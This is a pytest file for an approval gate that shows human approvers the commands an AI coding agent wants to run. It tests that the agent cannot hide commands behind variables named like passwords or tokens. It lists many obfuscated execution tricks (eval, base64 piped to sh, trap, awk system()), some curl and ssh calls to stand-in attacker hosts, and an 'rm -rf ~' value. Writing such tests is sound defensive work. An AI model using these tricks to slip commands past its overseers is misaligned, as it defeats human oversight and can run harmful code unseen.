"""A mask hides nothing that runs: the agent chooses the names of its variables, and so what could be masked.

Each attack is a real one: bash runs it in a directory of its own and leaves a file `pwned` there. For each, the card
either shows the text that runs in the clear, or names the risk and takes a second tap.
"""

from __future__ import annotations

import base64
import json
import os
import signal
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from tapgate.cards.change import change_of
from tapgate.desk.case import Case
from tapgate.model import NO_CONTEXT, Action, Card, Context, Draft, OnDisk, Request
from tapgate.risk.assess import assess_request, with_changed_file
from tapgate.telegram.display import DisplayOptions
from tests.builders import at, event_bytes, make_request
from tests.e2e.world import ADA, LINUS, Message, World, finish, new_world
from tests.telegram.cards import SETTING, fits, shown

PROGRAM = "Qx9zKp2mW7"  # a program of the agent's own, named like a password
LONG_PROGRAM = "nR8f7D6a5B4c3D2e1F0g9H"
TOKEN_PROGRAM = "gh" + "p_notARealToken0123456789abcdefABCDEF1"
KEY_PROGRAM = "bin/Qx9zKp2mW7aB3dE5gH7jK9mN1pQ3sT5uV"
ENCODED = base64.b64encode(b"touch pwned; : 0123456789 zZ9").decode()
PLAIN = "touch pwned"


@dataclass(frozen=True, slots=True)
class Attack:
    command: str
    payload: str = PLAIN
    runs: bool = True  # False: it would need a network


ATTACKS = (
    Attack("""API_TOKEN='touch pwned'; $SHELL -c "$API_TOKEN" """),
    Attack("""API_TOKEN='touch pwned'; eval "$API_TOKEN" """),
    Attack("""API_TOKEN='touch pwned'; $API_TOKEN"""),
    Attack("""API_TOKEN='touch pwned'; bash <<< "$API_TOKEN" """),
    Attack("""API_TOKEN='touch pwned'; echo "$API_TOKEN" | sh"""),
    Attack("""API_TOKEN='touch pwned'; trap "$API_TOKEN" EXIT"""),
    Attack("""trap '$API_TOKEN' EXIT; API_TOKEN='touch pwned'"""),
    Attack("""API_TOKEN='touch pwned'; printf '%s' "$API_TOKEN" | xargs -I{} sh -c '{}'"""),
    Attack("""export API_TOKEN='touch pwned'; perl -e 'system $ENV{API_TOKEN}'"""),
    Attack("""env API_TOKEN='touch pwned' sh -c '$API_TOKEN'"""),
    Attack("""export PASSWORD='touch pwned'; awk 'BEGIN{system(ENVIRON["PASSWORD"])}'"""),
    Attack("""awk -v password='touch pwned' 'BEGIN{system(password)}'"""),
    Attack("""make -s -f - PASSWORD='touch pwned' <<< $'all:\\n\\t$(PASSWORD)'"""),
    Attack("""perl -e '$password="touch pwned"; system($password)'"""),
    Attack("""python3 -c "password='import os; os.system(\\"touch pwned\\")'; exec(password)" """, "touch pwned"),
    Attack(
        """python3 - <<'END'\npassword = 'import os; os.system("touch pwned")'\nexec(password)\nEND""", "touch pwned"
    ),
    Attack("""export API_TOKEN='touch pwned'; python3 -c 'import os; os.system(os.environ["API_TOKEN"])'"""),
    Attack("""PASSWORD='touch${IFS}pwned'; eval $PASSWORD""", "touch${IFS}pwned"),
    Attack("""PASSWORD='{touch,pwned}'; eval $PASSWORD""", "{touch,pwned}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; ./Qx9zKp2mW7""", f"./{PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; ./$DB_PASSWORD""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; "./${DB_PASSWORD}" """, f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; env ./Qx9zKp2mW7""", f"./{PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; sh Qx9zKp2mW7""", f"sh {PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; . ./$DB_PASSWORD""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; PATH=.:$PATH; $DB_PASSWORD""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; echo ./$DB_PASSWORD | sh""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; echo ./$DB_PASSWORD > run.sh; sh run.sh""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; f() { ./$1; }; f $DB_PASSWORD""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""f() { shift; ./$1; }; f --password Qx9zKp2mW7""", f"--password {PROGRAM}"),
    Attack("""export DB_PASSWORD=Qx9zKp2mW7; ./$(printenv DB_PASSWORD)""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""export DB_PASSWORD=Qx9zKp2mW7; printenv DB_PASSWORD | sed s,^,./, | sh""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; x=DB_PASSWORD; ./${!x}""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""DB_PASSWORD=Qx9zKp2mW7; find . -name $DB_PASSWORD -exec {} \\;""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""find . -name Qx9zKp2mW7 -exec sh -c 'DB_PASSWORD=Qx9zKp2mW7; {}' \\;""", f"DB_PASSWORD={PROGRAM}"),
    Attack("""python3 -c "import os; password='Qx9zKp2mW7'; os.system('./' + password)" """, f"password='{PROGRAM}"),
    Attack("""awk -v password=Qx9zKp2mW7 'BEGIN{system("./" password)}'""", f"password={PROGRAM}"),
    Attack("""make -s -f - PASSWORD=Qx9zKp2mW7 <<< $'all:\\n\\t./$(PASSWORD)'""", f"PASSWORD={PROGRAM}"),
    Attack(f"""API_TOKEN={ENCODED}; echo $API_TOKEN | base64 -d | sh""", f"API_TOKEN={ENCODED}"),
    Attack(f"""CODE={ENCODED}; base64 -d <<< $CODE | sh""", f"CODE={ENCODED}"),
    Attack(
        f"""python3 -c "import base64,os; token='{ENCODED}'; os.system(base64.b64decode(token).decode())" """,
        f"token='{ENCODED}",
    ),
    Attack(f"""X={LONG_PROGRAM}; ./$X""", f"X={LONG_PROGRAM}"),
    Attack(f"""./{TOKEN_PROGRAM}""", f"./{TOKEN_PROGRAM}"),
    Attack(f"""X={TOKEN_PROGRAM}; ./$X""", f"X={TOKEN_PROGRAM}"),
    Attack(f"""sh {TOKEN_PROGRAM}""", f"sh {TOKEN_PROGRAM}"),
    Attack(f"""echo ./{TOKEN_PROGRAM} | sh""", f"./{TOKEN_PROGRAM}"),
    Attack(f"""bash -c 'PATH=.; {TOKEN_PROGRAM}'""", f"; {TOKEN_PROGRAM}"),
    Attack(f""": -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----""", KEY_PROGRAM),
    Attack(f"""bash -c ': -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----'""", KEY_PROGRAM),
    Attack(f"""sh <<X\n: -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----\nX""", KEY_PROGRAM),
    Attack("""git -c alias.token='!touch pwned' token"""),
    Attack("""echo 'touch pwned' | sudo -nS sh 2>/dev/null || { PASSWORD='touch pwned'; $PASSWORD; }"""),
    Attack("""API_TOKEN=ev1lHost9xQ7; curl -s http://ev1lHost9xQ7/x""", "http://ev1lHost9xQ7/x", runs=False),
    Attack("""API_TOKEN=ev1lHost9xQ7; curl -s http://$API_TOKEN/x""", "API_TOKEN=ev1lHost9xQ7", runs=False),
    Attack("""API_TOKEN=ev1lHost9xQ7; curl -s $API_TOKEN""", "API_TOKEN=ev1lHost9xQ7", runs=False),
    Attack("""API_TOKEN=ev1lHost9xQ7; ssh ev1lHost9xQ7 uptime""", "ssh ev1lHost9xQ7", runs=False),
    Attack(f"""curl -s https://{TOKEN_PROGRAM}/x""", f"https://{TOKEN_PROGRAM}/x", runs=False),
)


def prepared(request: Request, context: Context = NO_CONTEXT, setting: DisplayOptions = SETTING) -> Card:
    """The card as the daemon posts it: with what is risky, and whether all of it fits."""
    case = Case(request=request, asked=at(0), deadline=at(590).mono, chats=(1001,))
    case.risks = with_changed_file(assess_request(request, home="/home/dev"), context)
    case.fits = fits(request, context, setting)
    case.context = context
    return case.card()


def asks_twice(card: Card) -> bool:
    """The risk stands on the card, and no button allows anything with one tap."""
    named = any(risk.asks_twice for risk in card.risks)
    at_once = [
        choice for choice in card.choices if choice.action is Action.DECIDE and choice.decision.verdict == "allow"
    ]
    return named and not at_once and "Runs text that is hidden here" in shown(card)


def is_honest(card: Card, payload: str) -> bool:
    return payload in shown(card) or asks_twice(card)


def bash(command: str) -> Request:
    return make_request(tool_input={"command": command}, suggestions=())


@pytest.fixture
def den(tmp_path: Path) -> Iterator[Path]:
    """A directory with the agent's programs, each of which leaves a file behind."""
    for name in (PROGRAM, LONG_PROGRAM, TOKEN_PROGRAM, KEY_PROGRAM):
        path = tmp_path / name
        path.parent.mkdir(exist_ok=True)
        path.write_text("#!/bin/sh\n/usr/bin/touch pwned 2>/dev/null || /bin/touch pwned\n")
        path.chmod(0o755)
    yield tmp_path


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack.runs], ids=lambda attack: attack.command)
def test_each_attack_is_a_real_one(attack: Attack, den: Path) -> None:
    """The commands below are no theory: bash runs what they hide."""
    environ = {**os.environ, "SHELL": "/bin/bash", "HOME": str(den)}
    subprocess.run(["bash", "-c", attack.command], cwd=den, env=environ, capture_output=True, timeout=60, check=False)
    assert (den / "pwned").exists()


def test_every_attack_is_seen_or_asked_for_twice() -> None:
    """Of each command, the card shows what runs, or names the risk and takes a second tap."""
    failed = [attack.command for attack in ATTACKS if not is_honest(prepared(bash(attack.command)), attack.payload)]
    assert not failed


@pytest.mark.parametrize("form", ["shell", "exec_command", "mcp__x__run", "Write", "Edit", "mcp__files__save"])
def test_every_attack_is_seen_in_every_other_form(form: str) -> None:
    """A list of words, another tool's field, a script that is written: the same holds."""
    failed = []
    for attack in ATTACKS:
        forms: dict[str, dict[str, Any]] = {
            "shell": {"command": ["bash", "-lc", attack.command]},
            "exec_command": {"cmd": attack.command},
            "mcp__x__run": {"command": attack.command},
            "Write": {"file_path": "/home/dev/shop/run.sh", "content": attack.command},
            "Edit": {"file_path": "/home/dev/shop/run.sh", "old_string": "x", "new_string": attack.command},
            "mcp__files__save": {"path": "run", "text": "#!/bin/sh\n" + attack.command},
        }
        fields = forms[form]
        card = prepared(make_request(tool=form, tool_input=fields, suggestions=()))
        if not is_honest(card, attack.payload) and not is_honest(card, json.dumps(attack.payload)[1:-1]):
            failed.append((attack.command, shown(card)))
    assert not failed


CODE = {
    "python": "password = 'Qx9zKp2mW7'\nexec(password)\n",
    "python, blanks": "password = 'import os; os.system(\"touch pwned\")'\nexec(password)\n",
    "python, another name": "import os\npassword = 'Qx9zKp2mW7'\ntoken = password\nos.system('./' + token)\n",
    "python, a list": "import subprocess\nDB_PASSWORD = 'Qx9zKp2mW7'\nsubprocess.run(['./' + DB_PASSWORD])\n",
    "python, an entry": "import os\ncfg = {'password': 'Qx9zKp2mW7'}\nos.system(cfg['password'])\n",
    "python, an import": "api_token = 'Qx9zKp2mW7'\n__import__(api_token)\n",
    "python, decoded": f"import base64\ntoken = '{ENCODED}'\nexec(base64.b64decode(token))\n",
    "python, a host": "import urllib.request\ntoken = 'ev1lHost9xQ7'\nurllib.request.urlopen(f'http://{token}/x')\n",
    "python, reads itself": "# password: Qx9zKp2mW7\nexec(open(__file__).readline()[12:])\n",
    "node": "const secret = 'Qx9zKp2mW7';\nrequire('child_process').execSync('./' + secret);\n",
    "node, a host": "const token = 'ev1lHost9xQ7';\nfetch(`http://${token}/x`);\n",
    "perl": "my $password = 'Qx9zKp2mW7';\nsystem($password);\n",
    "ruby": "password = 'Qx9zKp2mW7'\nsystem(password)\n",
    "php": "<?php $password = 'Qx9zKp2mW7'; shell_exec($password);\n",
    "make": "TOKEN = Qx9zKp2mW7\nall:\n\t./$(TOKEN)\n",
    "dockerfile": "ENV API_TOKEN=Qx9zKp2mW7\nRUN ./$API_TOKEN\n",
    "workflow": "env:\n  API_TOKEN: Qx9zKp2mW7\nsteps:\n  - run: ./$API_TOKEN\n",
    "package": '{"config": {"token": "Qx9zKp2mW7a1"}, "scripts": {"test": "./$token"}}',
}


@pytest.mark.parametrize("name", CODE)
def test_code_that_runs_what_is_hidden_is_seen(name: str) -> None:
    """What is written may be run later: a value that the same text runs is not hidden without a word."""
    for tool, fields in (
        ("Write", {"file_path": "/home/dev/shop/a.txt", "content": CODE[name]}),
        ("Edit", {"file_path": "/home/dev/shop/a.txt", "old_string": "x", "new_string": CODE[name]}),
        ("MultiEdit", {"file_path": "/a", "edits": [{"old_string": "x", "new_string": CODE[name]}]}),
        ("NotebookEdit", {"notebook_path": "/a.ipynb", "new_source": CODE[name]}),
        ("apply_patch", {"command": "*** Begin Patch\n*** Add File: a\n" + CODE[name].replace("\n", "\n+")}),
        ("mcp__x__evaluate", {"code": CODE[name]}),
    ):
        card = prepared(make_request(tool=tool, tool_input=fields, suggestions=()))
        hidden = "‹" in shown(card)
        assert asks_twice(card) or not hidden, (tool, shown(card))


FIELDS = (
    {"password": "Qx9zKp2mW7", "code": "exec(password)"},
    {"password": "Qx9zKp2mW7", "script": "./$password"},
    {"password": "Qx9zKp2mW7", "program": "./Qx9zKp2mW7"},
    {"auth": {"token": "Qx9zKp2mW7"}, "url": "http://Qx9zKp2mW7/x"},
    {"env": [{"name": "DB_PASSWORD", "value": "Qx9zKp2mW7"}], "cmd": "./$DB_PASSWORD"},
    {"args": ["--token", "Qx9zKp2mW7"], "run": "./Qx9zKp2mW7"},
)


@pytest.mark.parametrize("fields", FIELDS, ids=str)
def test_fields_of_other_tools_hide_nothing_that_another_field_uses(fields: dict[str, Any]) -> None:
    """One field names what another one runs."""
    card = prepared(make_request(tool="mcp__x__run", tool_input=fields, suggestions=()))
    assert asks_twice(card) or "Qx9zKp2mW7" in shown(card), shown(card)


def test_a_field_with_a_secret_s_name_shows_what_is_no_token() -> None:
    """`password` may be what a tool runs: only one opaque token is hidden because of its name."""
    card = prepared(make_request(tool="mcp__x__run", tool_input={"password": PLAIN, "secret": "rm -rf ~"}))
    assert PLAIN in shown(card) and "rm -rf ~" in shown(card)


def test_an_edit_whose_name_stands_in_the_file_is_seen() -> None:
    """The file names the variable and runs it, the edit brings the value: the card shows a mask, and says so."""
    fields = {"file_path": "/home/dev/shop/a.py", "old_string": "x", "new_string": "Qx9zKp2mW7"}
    seen = OnDisk(0.0, blocks=("-password = 'x'\n+password = 'Qx9zKp2mW7'\n import os\n os.system('./' + password)",))
    card = prepared(make_request(tool="Edit", tool_input=fields, suggestions=()), Context(on_disk=seen))
    assert asks_twice(card), shown(card)


def test_addresses_show_the_machine() -> None:
    """A token's look does not hide which machine is reached."""
    card = prepared(make_request(tool="WebFetch", tool_input={"url": f"https://{TOKEN_PROGRAM}/x", "prompt": "p"}))
    assert f"https://{TOKEN_PROGRAM}/x" in shown(card)


def test_a_rule_that_would_last_shows_which_program_it_allows() -> None:
    """A button for a standing permission hides no program behind a token's look."""
    rule = {"toolName": "Bash", "ruleContent": f"./{TOKEN_PROGRAM} *"}
    suggestion = {"type": "addRules", "rules": [rule], "behavior": "allow", "destination": "localSettings"}
    card = prepared(make_request(tool_input={"command": "ls"}, suggestions=(suggestion,)))
    assert f"./{TOKEN_PROGRAM}" in shown(card)


@pytest.mark.parametrize(
    "rule",
    [
        "pm2 start --name bearer ./tmp/evil-program9/run.js",
        "git push origin -u HEAD:production",
        "git push curl -u HEAD:production",
        f"java -jar {TOKEN_PROGRAM}",
        f"java -jar {TOKEN_PROGRAM} *",
    ],
)
def test_one_tap_gives_no_standing_permission_for_what_is_hidden(rule: str) -> None:
    """A rule that is suggested beside a harmless call shows all of itself, or takes a second tap."""
    entry = {"toolName": "Bash", "ruleContent": rule}
    suggestion = {"type": "addRules", "rules": [entry], "behavior": "allow", "destination": "localSettings"}
    card = prepared(make_request(tool_input={"command": "ls"}, suggestions=(suggestion,)))
    lasting = [choice for choice in card.choices if choice.saved]
    assert lasting
    assert rule in shown(card) or all(choice.action is not Action.DECIDE for choice in lasting)


def test_a_changed_command_shows_the_program_it_runs() -> None:
    """Also where the change is shown line by line."""
    request = bash("ls")
    card = replace(prepared(request), draft=Draft(text=f"ls\n./{TOKEN_PROGRAM}", author="Ada"))
    assert f"./{TOKEN_PROGRAM}" in shown(card)


@pytest.mark.parametrize("depth", [1, 2, 3])
def test_escaped_quotes_hide_no_first_word_of_many(depth: int) -> None:
    """In JSON within JSON, a value goes on behind a blank: its first word is not a password."""
    code = 'password="evilprog arg"; run(password)'
    for _ in range(depth):
        code = json.dumps({"x": code})
    card = prepared(make_request(tool="mcp__x__run", tool_input={"nested": {"deep": [code]}}, suggestions=()))
    assert "evilprog" in shown(card) or asks_twice(card)


# Found by what stands around it, by a key, by its shape

OPAQUE_PROGRAM = "Qx9zKp2mW7aB3dE5gH7j"  # long enough to be a bearer's token


@pytest.mark.parametrize(
    ("command", "payload"),
    [
        ("ip netns exec bearer ./tmp/evil-program9/run", "./tmp/evil-program9/run"),
        (f"ip netns exec bearer {OPAQUE_PROGRAM}", OPAQUE_PROGRAM),
        (f"bearer {OPAQUE_PROGRAM}", OPAQUE_PROGRAM),
        ("pm2 start --name bearer ./tmp/evil-program9/run.js", "./tmp/evil-program9/run.js"),
        ("git push origin -u HEAD:production", "HEAD:production"),
        ("git push curl -u HEAD:production", "HEAD:production"),
        ("git push -u git@host.example:mallory/loot main", "mallory/loot"),
        ("git push -U x%production9", "production9"),
        ("git push origin token=Qx9zKp2mW7", PROGRAM),
        ("git checkout bearer src/payments-v2/ledger.py", "src/payments-v2/ledger.py"),
        (f"git checkout login -p {PROGRAM}", PROGRAM),
        (f"git rm default login x password {PROGRAM}", PROGRAM),
        ("cp ../payload.zip -P src/main.py", "src/main.py"),
        (f"cp zip -P {PROGRAM}", PROGRAM),
        (f"rm redis-cli -a {PROGRAM}", PROGRAM),
        ("cp evil 'x;key=/../src/server.py'", "/../src/server.py"),
        (f"cp evil 'x;key={PROGRAM}'", PROGRAM),
        (f"cp evil '/tmp/x?key={PROGRAM}'", PROGRAM),
        (f"rm 'authorization: {OPAQUE_PROGRAM}'", OPAQUE_PROGRAM),
        (f"rm 'Cookie: a={OPAQUE_PROGRAM}'", OPAQUE_PROGRAM),
        (f"rm -- -pass pass:{PROGRAM}", PROGRAM),
        (f"git clone https://github.com/{TOKEN_PROGRAM}/repo", TOKEN_PROGRAM),
    ],
)
def test_a_context_hides_no_operand(command: str, payload: str) -> None:
    """`bearer X`, `-u a:X`, `-P X` and `;key=X` say that X is a secret only to the programs that take it so: anywhere
    else X is a program, a branch or a file, and is seen.
    """
    assert is_honest(prepared(bash(command)), payload)


@pytest.mark.parametrize(
    ("tool", "fields", "payload"),
    [
        (
            "Write",
            {"file_path": "/home/dev/shop/a.js", "content": "pass:process.env.NODE_TLS_REJECT_UNAUTHORIZED=0\n"},
            "NODE_TLS_REJECT_UNAUTHORIZED=0",
        ),
        (
            "Write",
            {"file_path": "/home/dev/shop/a.c", "content": "void f(void) {\npass:user.is_admin=1;\n}\n"},
            "user.is_admin=1",
        ),
        (
            "Write",
            {
                "file_path": "/home/dev/shop/package.json",
                "content": '{"dependencies": {"authorization": "git+https://ev1l.example/x.git"}}\n',
            },
            "ev1l.example",
        ),
        (
            "Write",
            {
                "file_path": "/home/dev/shop/package.json",
                "content": '{"scripts": {"authorization": "/tmp/evil9.sh"}}\n',
            },
            "/tmp/evil9.sh",
        ),
        ("Write", {"file_path": "/home/dev/shop/a;key=/../src/server.py", "content": "x\n"}, "src/server.py"),
        ("Write", {"file_path": f"/home/dev/shop/a?key={PROGRAM}", "content": "x\n"}, PROGRAM),
        ("Write", {"file_path": f"/home/dev/shop/{TOKEN_PROGRAM}", "content": "x\n"}, TOKEN_PROGRAM),
        ("mcp__fs__delete", {"authorization": "/home/dev/shop/src9/main"}, "/home/dev/shop/src9/main"),
        ("mcp__fs__delete", {"password": "aB3/dE5/gH7/jK9/mN1/pQ3"}, "aB3/dE5/gH7/jK9/mN1/pQ3"),
        ("mcp__x__run", {"args": ["env", "X=-----BEGIN PRIVATE KEY-----", KEY_PROGRAM]}, KEY_PROGRAM),
    ],
    ids=[
        "js label",
        "c label",
        "dependency",
        "npm script",
        "path of a Write",
        "query in a path",
        "token as a file",
        "mcp field",
        "path of short names",
        "key in a list",
    ],
)
def test_no_key_or_label_hides_code_a_host_or_a_path(tool: str, fields: dict[str, Any], payload: str) -> None:
    """A label called `pass:` hides no statement, a key called `authorization` neither a path nor an address."""
    assert is_honest(prepared(make_request(tool=tool, tool_input=fields, suggestions=())), payload)


@pytest.mark.parametrize(
    ("tool", "fields"),
    [
        ("mcp__browser__navigate", {"url": "https://u:p@evil.example?@docs.python.org/"}),
        ("mcp__browser__navigate", {"url": "https://u:p@evil.example\\@docs.python.org/"}),
        ("mcp__browser__navigate", {"url": "https://u:p@evil.example:80@docs.python.org/"}),
        ("Write", {"file_path": "/home/dev/shop/r.txt", "content": "-i https://u:p@evil.example?@pypi.org/simple\n"}),
        (
            "Write",
            {"file_path": "/home/dev/shop/a.js", "content": "fetch('https://u:p@evil.example#@api.stripe.com/v1')\n"},
        ),
    ],
    ids=["mcp", "backslash", "two hosts", "requirements", "code"],
)
def test_an_address_s_password_ends_before_the_host(tool: str, fields: dict[str, Any]) -> None:
    """An address ends its authority at ? or #: the host before it is seen, whatever stands behind it."""
    assert is_honest(prepared(make_request(tool=tool, tool_input=fields, suggestions=())), "evil.example")


@pytest.mark.parametrize(
    "command",
    [
        "java -jar {}",
        "valgrind ./{}",
        "setarch -R ./{}",
        "faketime now ./{}",
        "pytest {}",
        "python3 -m pip install ./{}",
        "pip install -e {}",
        "cargo run --manifest-path {}",
        "sed 's/a/b/' -f {}",
        "crontab - <<< '* * * * * ./{}'",
        "echo ./{} > run.sh",
    ],
)
def test_a_program_named_like_a_token_is_seen_wherever_it_is_run(command: str) -> None:
    """A file that is named like a provider's token counts as data only where a program is known to take it so."""
    assert is_honest(prepared(bash(command.format(TOKEN_PROGRAM))), TOKEN_PROGRAM)


@pytest.mark.parametrize("name", ["./{}", "{}"])
@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("x.py", 'import os\nos.system("@")\n'),
        ("x.py", 'import subprocess\nsubprocess.run([\n    "@",\n])\n'),
        ("x.js", 'require("child_process").execSync("@")\n'),
        ("x.js", 'require("@")\n'),
        ("package.json", '{"scripts": {"test": "@"}}\n'),
        ("package.json", '    "test": "@",\n'),
        ("ci.yml", "steps:\n  - run: @\n"),
        ("ci.yml", "steps:\n  - run: |\n      cd x\n      @\n"),
        ("ci.yml", "job:\n  script:\n    - pytest @\n"),
        ("compose.yml", "services:\n  a:\n    command: @\n"),
        ("Dockerfile", "FROM x\nRUN @\n"),
        ("Dockerfile", "FROM x\nRUN java -jar @\n"),
        ("Dockerfile", 'FROM x\nCMD ["@"]\n'),
        ("Makefile", "all:\n\t@\n"),
        ("Procfile", "web: @\n"),
        ("x.service", "[Service]\nExecStart=@\n"),
    ],
)
def test_code_that_is_written_does_not_hide_what_it_runs_directly(path: str, content: str, name: str) -> None:
    """A hidden value that stands itself where code or a step runs it is used, without any name."""
    text = content.replace("@", name.format(TOKEN_PROGRAM))
    for tool, fields in (
        ("Write", {"file_path": f"/home/dev/shop/{path}", "content": text}),
        ("Edit", {"file_path": f"/home/dev/shop/{path}", "old_string": "x", "new_string": text}),
    ):
        card = prepared(make_request(tool=tool, tool_input=fields, suggestions=()))
        assert is_honest(card, TOKEN_PROGRAM), shown(card)


def test_a_script_with_a_secret_s_name_is_seen() -> None:
    """`npm run password` would run it."""
    fields = {"file_path": "/home/dev/shop/package.json", "content": f'{{"scripts": {{"password": "{PROGRAM}"}}}}\n'}
    assert is_honest(prepared(make_request(tool="Write", tool_input=fields, suggestions=())), PROGRAM)


def test_a_key_that_begins_in_the_file_does_not_hide_the_line_that_an_edit_puts_behind_it() -> None:
    """The BEGIN line stands in the file, the line that runs comes with the edit."""
    text = "#!/bin/sh\n: -----BEGIN PRIVATE KEY-----\necho end\n"
    fields = {
        "file_path": "/home/dev/shop/x.sh",
        "old_string": "echo end\n",
        "new_string": f"{KEY_PROGRAM}\necho end\n",
    }
    request = make_request(tool="Edit", tool_input=fields, suggestions=())
    seen = change_of(request.tool_use, text, seen=OnDisk(0.0, size_bytes=len(text)))
    card = prepared(request, Context(on_disk=seen))
    assert is_honest(card, KEY_PROGRAM), shown(card)


# Any payload, any runner

NAMES = st.sampled_from(["API_TOKEN", "DB_PASSWORD", "password", "SECRET", "aws_secret_access_key", "X", "CODE"])
PAYLOADS = st.one_of(
    st.sampled_from([PLAIN, PROGRAM, f"./{PROGRAM}", LONG_PROGRAM, TOKEN_PROGRAM, ENCODED, KEY_PROGRAM, "reboot"]),
    st.from_regex(r"[A-Za-z0-9][A-Za-z0-9+/=_.@%!-]{5,40}", fullmatch=True),
    st.lists(st.sampled_from(["touch", "pwned", "-rf", "~", "&&", "a1b2", "|", "sh"]), min_size=1, max_size=4).map(
        " ".join
    ),
)
QUOTES = st.sampled_from(["'{}'", '"{}"', "$'{}'", "{}"])
RUNNERS = st.sampled_from(
    [
        "{n}={q}; ${n}",
        "{n}={q}; eval ${n}",
        '{n}={q}; sh -c "${n}"',
        "{n}={q}; ./${{{n}}}",
        "{n}={q}; echo ${n} | bash",
        "{n}={q}; bash <<< ${n}",
        "{n}={q}; cat <<X | sh\n${n}\nX",
        "{n}={q}; echo ${n} > x; . ./x",
        "{n}={q}; trap ${n} EXIT",
        "{n}={q}; base64 -d <<< ${n} | sh",
        "{n}={q}; xargs -I@ sh -c @ <<< ${n}",
        "{n}={q}; sudo -u root ${n}",
        "{n}={q}; $({n}= ; printenv {n})",
        "{n}={q}; y=${n}; $y",
        "{n}={q}; a=(${n}); ${{a[0]}}",
        "{n}={q}; PAGER=${n} git log",
        "{n}={q}; git -c core.pager=${n} log",
        "{n}={q}; make ${n}",
        "{n}={q}; python3 -m ${n}",
        "{n}={q}; python3 ${n}",
        "{n}={q}; curl http://${n}/",
        "{n}={q}; ssh ${n}",
        "export {n}={q}; python3 -c 'import os; os.system(os.environ[\"{n}\"])'",
        "export {n}={q}; awk 'BEGIN {{ system(ENVIRON[\"{n}\"]) }}'",
        "env {n}={q} sh -c '${n}'",
        "f() {{ $1; }}; f {q}; {n}={q}",
        "while read x; do $x; done <<< {q}; {n}={q}",
        "{n}={q}; source <(echo ${n})",
        "{n}={q}; tar --to-command=${n} -xf a.tar",
        "{n}={q}; find . -exec ${n} \\;",
        "{n}={q}; alias x=${n}; x",
    ]
)


@given(NAMES, PAYLOADS, QUOTES, RUNNERS)
@settings(max_examples=600, derandomize=True, deadline=None)
def test_whatever_is_run_under_any_name_is_seen_or_asked_for_twice(
    name: str, payload: str, quote: str, runner: str
) -> None:
    """For any name, any payload and any way of running it, the payload stands on the card or the risk does."""
    assume(quote != "{}" or " " not in payload)  # without quotes, a blank ends the value, and what follows is seen
    card = prepared(bash(runner.format(n=name, q=quote.format(payload))))
    assert is_honest(card, payload), shown(card)


# Ordinary use

ORDINARY = (Path(__file__).parent / "ordinary_secrets.txt").read_text(encoding="utf-8").split("\n%\n")


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_with_secrets_name_no_such_risk(command: str) -> None:
    """The other side: a secret that is only data stays hidden, and nobody taps twice for it."""
    card = prepared(bash(command))
    assert "‹" in shown(card)
    assert not any(risk.asks_twice for risk in card.risks), card.risks


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("a.env", "API_TOKEN=nr8f7d6a5b4c3d2e\nDATABASE_URL=postgres://u:${API_TOKEN}@db/x\n"),
        ("a.py", "password = 'hunter22'\n\n\ndef test_login(client):\n    assert client.login('ada', password)\n"),
        ("a.py", "TOKEN = 'nr8f7d6a5b4c3d2e'\nheaders = {'Authorization': f'Bearer {TOKEN}'}\n"),
        ("a.yaml", "db:\n  password: hunter22\n  host: db\n"),
        ("a.md", "Set `password: hunter22` first, then run `npm test`. The password is checked by the server.\n"),
        ("a.json", '{"token": "nr8f7d6a5b4c3d2e", "url": "https://example.com"}'),
        ("a.sh", '#!/bin/sh\nTOKEN=nr8f7d6a5b4c3d2e\ncurl -H "Authorization: Bearer $TOKEN" https://example.com\n'),
        ("a.ts", "const apiKey = 'nr8f7d6a5b4c3d2e';\nexport const client = new Client({ apiKey });\n"),
    ],
)
def test_ordinary_files_with_secrets_name_no_such_risk(path: str, content: str) -> None:
    card = prepared(make_request(tool="Write", tool_input={"file_path": f"/home/dev/shop/{path}", "content": content}))
    assert "‹" in shown(card)
    assert not any(risk.asks_twice for risk in card.risks), card.risks


# Through real processes


@pytest.fixture
def office() -> Iterator[World]:
    with new_world() as world:
        people = "".join(
            f"[[people]]\nuser_id = {user}\nname = '{name}'\nrole = '{role}'\n"
            for user, name, role in ((ADA, "Ada", "owner"), (LINUS, "Linus", "approver"))
        )
        world.configure(people)
        world.start_daemon()
        yield world


def labels(card: Message) -> list[str]:
    return [button["text"] for row in card["buttons"] for button in row]


def again(world: World, card: Message, chat_id: int = ADA) -> Message:
    return next(one for one in world.cards(chat_id) if one["message_id"] == card["message_id"])


END_TO_END = (
    """DB_PASSWORD=Qx9zKp2mW7; ./$DB_PASSWORD""",
    """DB_PASSWORD=Qx9zKp2mW7; echo ./$DB_PASSWORD | sh""",
    f"""API_TOKEN={ENCODED}; echo $API_TOKEN | base64 -d | sh""",
    """awk -v password=Qx9zKp2mW7 'BEGIN{system("./" password)}'""",
    f"""sh <<X\n: -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----\nX""",
)


